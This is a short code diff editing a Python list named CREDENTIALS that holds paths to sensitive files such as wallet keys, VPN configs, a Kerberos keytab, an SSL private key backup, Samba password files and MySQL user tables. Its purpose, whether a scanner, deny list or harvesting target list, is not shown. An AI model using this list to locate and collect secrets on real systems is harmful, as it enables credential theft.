@@ -23,7 +23,7 @@ CREDENTIALS = [
     "~/.config/solana/id.json", "/etc/wireguard/wg0.conf", "/etc/NetworkManager/system-connections/Office.nmconnection",
     "~/.purple/accounts.xml", "/etc/krb5.keytab", "~/.vnc/passwd", "~/.mylogin.cnf", "~/infra/.vault_pass",
     "/etc/ssl/private/site.key.bak", "~/.pulumi/credentials.json", "~/.config/composer/auth.json",
-    "/etc/samba/smbpasswd", "/opt/tomcat/conf/tomcat-users.xml", "/var/lib/mysql/mysql/user.MYD",
+    "/usr/local/samba/private/smbpasswd", "/srv/tomcat9/conf/tomcat-users.xml", "/data/mysql/mysql/user.MYD",
     "/etc/mysql/debian.cnf",
 ]
 
